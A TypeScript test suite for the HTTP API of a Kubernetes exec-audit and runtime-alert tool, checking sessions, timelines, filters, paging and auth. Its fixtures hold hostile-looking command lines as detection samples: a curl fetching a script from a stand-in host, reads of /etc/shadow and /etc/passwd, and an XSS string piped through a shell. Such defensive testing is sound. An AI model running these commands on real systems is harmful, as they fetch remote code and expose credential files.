import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { readApiToken, startHttpServer, type HttpServer } from '../../src/api/server.ts';
import { silentLogger } from '../../src/observe/log.ts';
import { createMetrics } from '../../src/observe/metrics.ts';
import type { Database } from '../../src/store/database.ts';
import { SessionWriter } from '../../src/store/session-writer.ts';
import { sessionsFromLine } from '../../src/audit/input.ts';
import { execStages } from '../support/audit-event.ts';
import type { Timeline } from '../../src/timeline/assemble.ts';
import { loadTimeline, type SessionDetail } from '../../src/timeline/queries.ts';
import type { RuntimeEventRecord, SessionSummary } from '../../src/timeline/records.ts';
import { backends, createTestDatabase, skipReason, type TestDatabaseTarget } from '../support/databases.ts';
import { scenarioWriters } from '../correlate/support.ts';
import { writeScenario, XSS, type Scenario } from '../timeline/scenario.ts';

interface Answer<T = unknown> {
  status: number;
  headers: Headers;
  body: T;
}

async function get<T = Record<string, unknown>>(base: string, path: string, headers: Record<string, string> = {}): Promise<Answer<T>> {
  const response = await fetch(`${base}${path}`, { headers });
  const type = response.headers.get('content-type') ?? '';
  const body = type.includes('json') ? await response.json() : await response.text();
  return { status: response.status, headers: response.headers, body: body as T };
}

type SessionsPage = { sessions: SessionSummary[]; nextCursor: string | null };
type EventsPage = { events: RuntimeEventRecord[]; nextCursor: string | null };

for (const backend of backends) {
  describe(`HTTP API on ${backend}`, { skip: skipReason(backend) }, () => {
    let db: Database;
    let target: TestDatabaseTarget;
    let close: () => Promise<void>;
    let scenario: Scenario;
    let server: HttpServer;
    let base: string;
    const metrics = createMetrics();
    before(async () => {
      ({ db, target, close } = await createTestDatabase(backend));
      scenario = await writeScenario(db);
      server = await startHttpServer({ db, metrics, logger: silentLogger, port: 0, host: '127.0.0.1' });
      base = server.url;
    });
    after(async () => {
      await server?.close();
      // The last test closes the database itself.
      await close?.().catch(() => target.destroy());
    });

    it('answers /healthz, /readyz (migrations applied) and /metrics', async () => {
      const health = await get(base, '/healthz');
      assert.equal(health.status, 200);
      assert.deepEqual(health.body, { status: 'alive' });
      const ready = await get<{ status: string; database: string; migrations: { pending: string[] } }>(base, '/readyz');
      assert.equal(ready.status, 200);
      assert.equal(ready.body.status, 'ready');
      assert.equal(ready.body.database, 'reachable');
      assert.deepEqual(ready.body.migrations.pending, []);
      metrics.linesRead.inc(7);
      const scrape = await get<string>(base, '/metrics');
      assert.equal(scrape.status, 200);
      assert.match(scrape.headers.get('content-type')!, /^text\/plain/);
      assert.match(scrape.body, /^exectrail_lines_read_total 7$/m);
    });

    it('lists sessions newest first with their counts, and filters them', async () => {
      const all = await get<SessionsPage>(base, '/api/v1/sessions');
      assert.equal(all.status, 200);
      assert.deepEqual(all.body.sessions.map((s) => s.user), ['carol', 'bob', 'dave', 'alice']);
      const alice = all.body.sessions.find((s) => s.user === 'alice')!;
      assert.deepEqual(
        { id: alice.id, processes: alice.processCount, alerts: alice.alertCount, blocks: alice.blockCount, ip: alice.sourceIp, started: alice.startedAt },
        { id: scenario.ids.alice, processes: 6, alerts: 1, blocks: 1, ip: '192.0.2.10', started: scenario.at(0, 100001) },
      );
      const names = async (query: string) => (await get<SessionsPage>(base, `/api/v1/sessions?${query}`)).body.sessions.map((s) => s.user);
      assert.deepEqual(await names('user=alice'), ['alice']);
      // A part of the name, any case; % and _ are the characters themselves, not LIKE wildcards.
      assert.deepEqual(await names('user=ALI'), ['alice']);
      assert.deepEqual(await names('user=a'), ['carol', 'dave', 'alice']);
      assert.deepEqual(await names('user=%25'), []);
      assert.deepEqual(await names('user=_'), []);
      assert.deepEqual(await names('user=%5C'), []);
      assert.deepEqual(await names('namespace=staging'), ['dave']);
      assert.deepEqual(await names('namespace=shop&pod=web-0'), ['carol', 'bob', 'alice']);
      assert.deepEqual(await names('allowed=false'), ['bob']);
      assert.deepEqual(await names(`since=${encodeURIComponent(scenario.at(60))}`), ['carol', 'bob']);
      assert.deepEqual(await names(`until=${encodeURIComponent(scenario.at(0, 100001))}`), ['alice'], 'until is inclusive, to the microsecond');
      assert.deepEqual(await names('since=1h'), ['carol', 'bob', 'dave', 'alice']);
      assert.deepEqual(await names('since=10m'), []);
    });

    it('pages with a keyset cursor: no repeat and no gap even when a newer session arrives between pages', async () => {
      const seen: string[] = [];
      let page = await get<SessionsPage>(base, '/api/v1/sessions?limit=2&namespace=shop');
      seen.push(...page.body.sessions.map((s) => s.user));
      // A new session lands on top of the list while someone pages through it.
      await scenarioWriters(db, '').audit([JSON.stringify({
        kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Metadata', auditID: 'late-0005', stage: 'ResponseComplete',
        requestURI: '/api/v1/namespaces/shop/pods/web-0/exec?command=date&container=web&stdout=true', verb: 'create',
        user: { username: 'erin' }, sourceIPs: ['192.0.2.55'], objectRef: { resource: 'pods', namespace: 'shop', name: 'web-0', subresource: 'exec' },
        responseStatus: { code: 101 }, requestReceivedTimestamp: scenario.at(400), stageTimestamp: scenario.at(401),
      })]);
      while (page.body.nextCursor) {
        page = await get<SessionsPage>(base, `/api/v1/sessions?limit=2&namespace=shop&cursor=${encodeURIComponent(page.body.nextCursor)}`);
        assert.equal(page.status, 200);
        seen.push(...page.body.sessions.map((s) => s.user));
      }
      assert.deepEqual(seen, ['carol', 'bob', 'alice']);
      assert.deepEqual((await get<SessionsPage>(base, '/api/v1/sessions?limit=1&namespace=shop')).body.sessions.map((s) => s.user), ['erin']);
      await db.query(`DELETE FROM change_events WHERE audit_id = 'late-0005'`);
    });

    it('refuses bad query parameters with 400 naming the parameter', async () => {
      const cases: [string, string, RegExp][] = [
        ['/api/v1/sessions?limit=abc', 'limit', /"limit"/],
        ['/api/v1/sessions?limit=0', 'limit', /"limit"/],
        ['/api/v1/sessions?limit=100000', 'limit', /"limit"/],
        ['/api/v1/sessions?allowed=maybe', 'allowed', /must be true or false/],
        ['/api/v1/sessions?since=yesterday', 'since', /"yesterday" is not a time/],
        ['/api/v1/sessions?until=2025-02-30T00:00:00Z', 'until', /"2025-02-30T00:00:00Z" is not a time/],
        [`/api/v1/sessions?cursor=${Buffer.from(JSON.stringify(['2025-13-45T00:00:00.000000Z', 'x'])).toString('base64url')}`, 'cursor', /not a cursor/],
        ['/api/v1/sessions?usr=alice', 'usr', /unknown query parameter "usr"/],
        ['/api/v1/sessions?cursor=bm9wZQ', 'cursor', /not a cursor this API returned/],
        ['/api/v1/sessions?user=alice&user=bob', 'user', /must be given once/],
        ['/api/v1/timeline?namespace=shop', 'pod', /query parameter "pod" is required/],
        ['/api/v1/timeline?namespace=shop&pod=web-0&from=1h&since=2h', 'since', /since or from, not both/],
        ['/api/v1/timeline?namespace=shop&pod=web-0&from=2025-01-02T00:00:00Z&to=2025-01-01T00:00:00Z', 'to', /ends .* before it starts/],
        ['/api/v1/runtime-events?severity=high', 'severity', /"severity" must be a whole number from 0 to 10/],
        ['/api/v1/runtime-events?kind=warning', 'kind', /must be alert or log/],
      ];
      for (const [path, parameter, message] of cases) {
        const answer = await get<{ error: string; parameter: string }>(base, path);
        assert.equal(answer.status, 400, path);
        assert.equal(answer.body.parameter, parameter, path);
        assert.match(answer.body.error, message, path);
      }
      const unknownRoute = await get<{ error: string }>(base, '/api/v1/nothing');
      assert.equal(unknownRoute.status, 404);
      assert.match(unknownRoute.body.error, /\/api\/v1\/sessions/);
    });

    it('gives one session (URL-encoded id) with its processes and alerts in time order, as a tree', async () => {
      const answer = await get<SessionDetail>(base, `/api/v1/sessions/${encodeURIComponent(scenario.ids.alice)}`);
      assert.equal(answer.status, 200);
      const { session, activity, processTree } = answer.body;
      assert.equal(session.user, 'alice');
      assert.deepEqual(activity.map((e) => e.time), [
        scenario.at(0, 180010), scenario.at(5, 20), scenario.at(5, 520), scenario.at(5, 530), scenario.at(10, 40), scenario.at(12, 50), scenario.at(14, 60),
      ]);
      const curl = activity[4]!;
      assert.deepEqual([curl.kind, curl.action, curl.policyName, curl.severity], ['alert', 'Block', 'block-curl-in-shop', '8']);
      assert.deepEqual(curl.links, [{ sessionId: scenario.ids.alice, linkMethod: 'process-tree' }]);
      assert.equal(activity[5]!.resource, `/bin/sh -c echo '${XSS}' | tee /tmp/x`, 'returned as data, unchanged');
      assert.deepEqual(processTree, [
        { event: 0, children: [{ event: 1, children: [{ event: 2, children: [] }, { event: 3, children: [] }] }, { event: 4, children: [] }, { event: 5, children: [] }, { event: 6, children: [] }] },
      ]);
      // Colons unencoded work too; an unknown id is a 404 that says what ids look like.
      assert.equal((await get(base, `/api/v1/sessions/${scenario.ids.carol}`)).status, 200);
      const missing = await get<{ error: string }>(base, `/api/v1/sessions/${encodeURIComponent('EXEC::nope')}`);
      assert.equal(missing.status, 404);
      assert.match(missing.body.error, /EXEC:<cluster>:<auditID>/);
    });

    it('marks both sessions of a reused Audit-ID, in the list and in each session', async () => {
      const writer = new SessionWriter(db);
      for (const [user, pod, second] of [['zed', 'web-0', '10'], ['yan', 'db-0', '11']] as const) {
        const [stage] = sessionsFromLine(Buffer.from(JSON.stringify(execStages({ auditID: 'reused-api', user, namespace: 'reuse', pod, received: `2025-10-21T08:00:${second}.000000Z` }).at(-1))), { cluster: '' }).rows;
        await writer.write([stage!]);
      }
      const list = await get<SessionsPage>(base, '/api/v1/sessions?namespace=reuse');
      assert.equal(list.status, 200);
      assert.deepEqual(list.body.sessions.map((s) => [s.user, s.auditId, s.auditIdReused]).sort(), [['yan', 'reused-api', true], ['zed', 'reused-api', true]]);
      for (const s of list.body.sessions) {
        const one = await get<SessionDetail>(base, `/api/v1/sessions/${encodeURIComponent(s.id)}`);
        assert.equal(one.status, 200);
        assert.equal(one.body.session.auditIdReused, true);
      }
      await db.query(`DELETE FROM change_events WHERE audit_id = 'reused-api'`);
    });

    it('serves the pod timeline: sessions, the denied attempt, processes and the Block alert in order', async () => {
      const query = new URLSearchParams({ namespace: 'shop', pod: 'web-0', ...scenario.window });
      const answer = await get<Timeline>(base, `/api/v1/timeline?${query}`);
      assert.equal(answer.status, 200);
      assert.deepEqual(answer.body, await loadTimeline(db, { namespace: 'shop', pod: 'web-0', ...scenario.window }));
      const kinds = answer.body.entries.map((e) => e.kind);
      assert.deepEqual(kinds, ['session-start', 'process', 'process', 'process', 'process', 'alert', 'process', 'process', 'denied', 'session-start', 'process', 'process', 'session-end', 'alert', 'session-end']);
      const lastHour = await get<Timeline>(base, '/api/v1/timeline?namespace=shop&pod=web-0');
      assert.equal(lastHour.body.entries.length, kinds.length, 'the default window is the last hour');
      const staging = await get<Timeline>(base, '/api/v1/timeline?namespace=staging&pod=web-0&since=1h');
      assert.deepEqual(staging.body.sessions.map((s) => s.user), ['dave']);
    });

    it('filters runtime events as karmor logs does, newest first, with their session links', async () => {
      const events = async (query: string) => {
        const answer = await get<EventsPage>(base, `/api/v1/runtime-events?${query}`);
        assert.equal(answer.status, 200, query);
        return answer.body.events;
      };
      const resources = async (query: string) => (await events(query)).map((e) => e.resource);
      assert.equal((await events('namespace=shop')).length, 12);
      assert.deepEqual(await resources('namespace=shop&action=block'), ['/usr/bin/curl -s http://198.51.100.9/x.sh']);
      assert.deepEqual(await resources('namespace=shop&severity=6'), ['/usr/bin/curl -s http://198.51.100.9/x.sh'], 'severity is a minimum');
      assert.deepEqual(await resources('severity=5'), ['/etc/shadow', '/usr/bin/curl -s http://198.51.100.9/x.sh']);
      assert.deepEqual(await resources('operation=file'), ['/etc/shadow'], 'names are case-insensitive');
      assert.deepEqual(await resources('type=MatchedPolicy&policy=audit-shadow-reads'), ['/etc/shadow']);
      assert.deepEqual(await resources('kind=alert&namespace=staging'), []);
      assert.deepEqual(await resources('namespace=staging&pod=web-0&container=web'), ['/bin/bash']);
      const window = `since=${encodeURIComponent(scenario.at(5, 520))}&until=${encodeURIComponent(scenario.at(5, 530))}`;
      assert.deepEqual(await resources(`namespace=shop&${window}`), ['/bin/grep root', '/bin/cat /etc/passwd'], 'bounds inclusive, microseconds kept');
      const probe = (await events('namespace=shop')).find((e) => e.resource === '/bin/sh -c pg_isready -q')!;
      assert.deepEqual(probe.links, [], 'the exec probe belongs to no session');

      const paged: string[] = [];
      let cursor: string | null = null;
      do {
        const answer: Answer<EventsPage> = await get<EventsPage>(base, `/api/v1/runtime-events?namespace=shop&limit=5${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
        paged.push(...answer.body.events.map((e) => e.eventKey));
        cursor = answer.body.nextCursor;
      } while (cursor);
      assert.deepEqual(paged, (await events('namespace=shop')).map((e) => e.eventKey));
    });

    it('serves the page with a strict Content-Security-Policy', async () => {
      const page = await get<string>(base, '/');
      assert.equal(page.status, 200);
      assert.match(page.headers.get('content-type')!, /^text\/html/);
      assert.match(page.body, /<script type="module" src="app\.js"><\/script>/);
      assert.match(page.headers.get('content-security-policy')!, /script-src 'self';/);
      assert.doesNotMatch(page.headers.get('content-security-policy')!, /unsafe-inline/);
      assert.equal((await get(base, '/app.js')).status, 200);
    });

    it('requires the bearer token on /api/* when -api-token-file is given, never on health or metrics', async () => {
      const dir = mkdtempSync(join(tmpdir(), 'exectrail-token-'));
      writeFileSync(join(dir, 'token'), 's3cret-token\n');
      const token = await readApiToken(join(dir, 'token'));
      writeFileSync(join(dir, 'empty'), '\n');
      await assert.rejects(readApiToken(join(dir, 'empty')), /is empty; put the API token in it/);
      await assert.rejects(readApiToken(join(dir, 'missing')), /cannot read -api-token-file/);
      const guarded = await startHttpServer({ db, metrics, logger: silentLogger, port: 0, host: '127.0.0.1', apiToken: token });
      try {
        const none = await get<{ error: string }>(guarded.url, '/api/v1/sessions');
        assert.equal(none.status, 401);
        assert.equal(none.headers.get('www-authenticate'), 'Bearer realm="exectrail"');
        assert.match(none.body.error, /-api-token-file/);
        assert.equal((await get(guarded.url, '/api/v1/sessions', { Authorization: 'Bearer s3cret-tokeN' })).status, 401);
        assert.equal((await get(guarded.url, '/api/v1/sessions', { Authorization: 's3cret-token' })).status, 401);
        assert.equal((await get(guarded.url, '/api/v1/sessions', { Authorization: 'Bearer s3cret-token' })).status, 200);
        for (const open of ['/healthz', '/readyz', '/metrics', '/']) assert.equal((await get(guarded.url, open)).status, 200, open);
      } finally {
        await guarded.close();
      }
    });

    it('says which port is taken and how to choose another when -http-port is in use', async () => {
      await assert.rejects(
        startHttpServer({ db, metrics, logger: silentLogger, port: server.port }),
        new RegExp(`cannot listen on port ${server.port} \\(-http-port\\): another process uses it; stop it or choose another -http-port`),
      );
    });

    it('says not ready (503) once the database is gone, stays alive, and answers the API with 500 and what to do', async () => {
      await db.close();
      const ready = await get<{ status: string; reasons: string[] }>(base, '/readyz');
      assert.equal(ready.status, 503);
      assert.equal(ready.body.status, 'not ready');
      assert.match(ready.body.reasons[0]!, /check that it is running/);
      assert.equal((await get(base, '/healthz')).status, 200);
      const api = await get<{ error: string }>(base, '/api/v1/sessions');
      assert.equal(api.status, 500);
      assert.match(api.body.error, /see the audit-processor log and \/readyz/);
    });
  });
}
